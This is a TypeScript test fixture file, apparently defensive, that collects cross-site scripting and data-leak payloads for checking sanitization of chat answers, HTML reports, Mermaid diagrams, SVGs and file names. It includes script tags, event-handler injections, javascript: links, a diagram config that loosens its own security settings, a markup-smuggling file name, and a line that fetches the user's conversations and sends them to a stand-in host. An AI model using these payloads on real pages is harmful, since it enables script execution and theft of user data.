/**
 * Attempts to run scripts, for every place that shows text. A successful attempt would set `wasHarmed`, open a dialog
 * or contact another host.
 */
const HARM = "globalThis.wasHarmed=1;alert(1)";

export const HOSTILE_ANSWER = [
  `<script>${HARM}</script>`,
  `<img src=x onerror="${HARM}">`,
  `<svg onload="${HARM}"><animate onbegin="${HARM}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.wasHarmed=1</script>"></iframe>`,
  `[a](javascript:${HARM}) [b](JaVaScRiPt:${HARM}) [c](data:text/html,<script>${HARM}</script>) [d](vbscript:x)`,
  `[e](<javascript:${HARM}>) <javascript:${HARM}> [f]: javascript:${HARM}`,
  "![remote](http://evil.invalid/track.png) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  `![x](x" onerror="${HARM})`,
  `$\\href{javascript:${HARM}}{click}$ $\\includegraphics{http://evil.invalid/x.png}$ $$\\htmlData{x=1}{y}$$`,
  `\`\`\`html\n<script>${HARM}</script>\n\`\`\``,
  `| <img src=x onerror=${HARM}> | b |\n|---|---|\n| [x](javascript:${HARM}) | <b onmouseover=${HARM}>hover</b> |`,
  `<style>@import url(http://evil.invalid/x.css);</style><link rel=stylesheet href=http://evil.invalid/x.css>`,
  `<form action=http://evil.invalid><button>go</button></form><meta http-equiv=refresh content="0;url=http://evil.invalid">`,
  "[[S:1]] [[S:999999999]] {{constructor.constructor('return 1')()}}",
].join("\n\n");

/** All attacks that a page can try. `other` is an address that counts its visitors. */
export function hostileHtml(other: string): string {
  const host = other.replace(/^https?:/, "");
  return `<!doctype html><html><head><title>Report</title>
<base href="${other}/"><meta http-equiv="refresh" content="0;url=${other}/refresh">
<link rel="preconnect" href="${other}"><link rel="dns-prefetch" href="${host}"><link rel="prefetch" href="${other}/p">
<link rel="stylesheet" href="${other}/a.css"><link rel="icon" href="${other}/icon.png">
<style>@import url(${other}/b.css);@font-face{font-family:x;src:url(${other}/x.woff)}
h1{color:rgb(1,2,3);font-family:x;background:url(${other}/c.png)}</style>
<script>${HARM};try{top.wasHarmed=1;parent.wasHarmed=1}catch{};fetch("${other}/f");new WebSocket("ws:${host}");
new Image().src="${other}/i";navigator.sendBeacon("${other}/b");location="${other}/l";top.location="${other}/t";
new RTCPeerConnection({iceServers:[{urls:"stun:${host.slice(2)}"}]}).createDataChannel("x");
fetch("/api/conversations").then((r)=>r.text()).then((t)=>fetch("${other}/steal?"+t))</script>
<script src="${other}/s.js"></script></head><body onload="${HARM}" background="${other}/bg.png">
<h1 onmouseover="${HARM}">A hostile report</h1>
<img src="${other}/a.png" srcset="${other}/b.png 2x" onerror="${HARM}"><video src="${other}/v" poster="${other}/v.png"></video>
<iframe src="${other}/frame"></iframe><iframe srcdoc="<script>${HARM.replaceAll('"', "'")}</script>"></iframe>
<iframe src="/api/conversations"></iframe><object data="${other}/o"></object><embed src="${other}/e">
<svg><image href="${other}/svg.png"/><use href="${other}/u.svg#x"/><a href="javascript:${HARM}"><text>x</text></a></svg>
<form action="${other}/form" method="post"><input name="q" autofocus onfocus="this.form.submit()"><button>Send</button></form>
<a id="top" href="${other}/top" target="_top">Leave</a> <a id="new" href="${other}/new" target="_blank" ping="${other}/ping">Open</a>
<a id="app" href="/c/none" target="_parent">App</a><div style="background:url(${other}/d.png)">A styled line</div>
<form><math><mtext></form><form><mglyph><style></math><link rel="preconnect" href="${other}"></style></form>
</body></html>`;
}

/** A diagram that tries to loosen its own limits, to run scripts and to reach the address `other`. */
export function hostileDiagram(other: string): string {
  const settings = {
    securityLevel: "loose",
    secure: [],
    htmlLabels: true,
    flowchart: { htmlLabels: true },
    themeCSS: `@import url(${other}/a.css); * { background: url(${other}/b.png) }`,
    fontFamily: `x; } @import url(${other}/c.css); .x {`,
    themeVariables: { primaryColor: `red; background: url(${other}/d.png)` },
    dompurifyConfig: { ADD_TAGS: ["script", "iframe", "link"], ADD_ATTR: ["onerror", "onload"] },
  };
  return `---
config:
  securityLevel: loose
  htmlLabels: true
---
%%{init: ${JSON.stringify(settings)}}%%
flowchart LR
  accTitle: A hostile flow
  accDescr: It tries everything
  A["A step <img src='${other}/e.png' onerror='${HARM}'>"] --> B["<script>${HARM}</script><b onclick='${HARM}'>b</b>"]
  B --> C["<iframe src='javascript:${HARM}'></iframe><link rel='preconnect' href='${other}'>"]
  C --> D["<svg><foreignObject><img src='${other}/f.png' onerror='${HARM}'></foreignObject></svg>"]
  D --> E["<style>@import url(${other}/g.css);</style><form action='${other}/h'><input autofocus onfocus='${HARM}'></form>"]
  click A call alert("harm")
  click B href "javascript:${HARM}" _top
  click C href "${other}/top" _top`;
}

export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="${HARM}"><script>${HARM}</script><image href="http://evil.invalid/a.png"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${HARM}"/></foreignObject><rect width="90" height="60" fill="teal"/></svg>`;

export const HOSTILE_NAME = `"><img src=x onerror=${HARM}>.md`;
